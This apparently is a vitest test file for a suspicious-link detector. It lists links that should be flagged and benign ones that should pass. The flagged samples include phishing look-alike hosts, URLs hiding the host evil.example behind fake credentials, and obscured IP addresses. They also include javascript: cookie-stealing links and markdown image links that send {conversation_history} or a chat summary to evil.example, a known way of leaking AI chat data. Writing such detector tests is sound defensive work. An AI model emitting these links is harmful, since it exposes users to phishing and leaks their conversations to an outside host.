import { expect, test } from "vitest";
import { findSuspiciousLinks } from "./suspicious-link.ts";

test.each([
  ["look-alike-host", "https://paypa1.com/login"],
  ["look-alike-host", "https://rnicrosoft.com/a"],
  ["look-alike-host", "https://secure-g00gle.com/a"],
  ["look-alike-host", "https://раураl.com/a"],
  ["look-alike-host", "https://xn--pypl-53dc.com/a"],
  ["look-alike-host", "http://paypal.com.account-check.xyz/a"],
  ["mixed-script-host", "https://exаmplebank.com/a"],
  ["hidden-host", "https://www.google.com@evil.example/a"],
  ["hidden-host", "https://google.com:443@evil.example/a"],
  ["bare-address", "http://45.33.32.156/a.sh"],
  ["bare-address", "http://[2600:3c01::f03c]/a"],
  ["obscured-address", "http://757080220/a"],
  ["obscured-address", "http://0x2d.0x21.0x20.0x9c/a"],
  ["active-link", "[a](javascript:alert(document.cookie))"],
  ["active-link", "[a](data:text/html;base64,PHNjcmlwdD4=)"],
  ["image-exfiltration", "![x](https://evil.example/log?q={conversation_history})"],
  ["image-exfiltration", "![x](https://evil.example/p/[SUMMARY OF CHAT].png)"],
])("%s: %s", (form, link) => {
  expect(findSuspiciousLinks(`see ${link} now`)).toMatchObject([{ form }]);
});

test.each([
  "https://www.google.com/search?q=a@b.com",
  "https://medium.com/@user/post",
  "https://john:pass@example.org/",
  "git+ssh://git@github.com/a/b",
  "http://192.168.1.1/ http://127.0.0.1:8080/ http://10.0.0.1 http://172.16.4.4/ http://169.254.169.254/x",
  "http://192.0.2.1/ http://198.51.100.7/ http://203.0.113.9/ http://[2001:db8::1]/ http://[::1]/",
  "http://1.2.3.4/ http://8.8.8.8/ http://999.1.1.1/ http://1.1.1.1/",
  "https://müller.de https://россия.рф https://例え.jp",
  "https://google.co.uk https://www.google.com.br https://amazon.com.au/x",
  "https://s3.amazonaws.com/b https://github.com.proxy.lib.example.edu/x",
  "https://3m.com https://1password.com https://office365.com https://w3.org https://linkedin.com",
  '<a href="javascript:void(0)">x</a> ![b](https://img.shields.io/badge/{style}) ![a](https://x.org/a.png)',
  "![x]({{ site.url }}/data.png) data:image/png;base64,AAAA",
])("is quiet on: %s", (text) => {
  expect(findSuspiciousLinks(text)).toEqual([]);
});
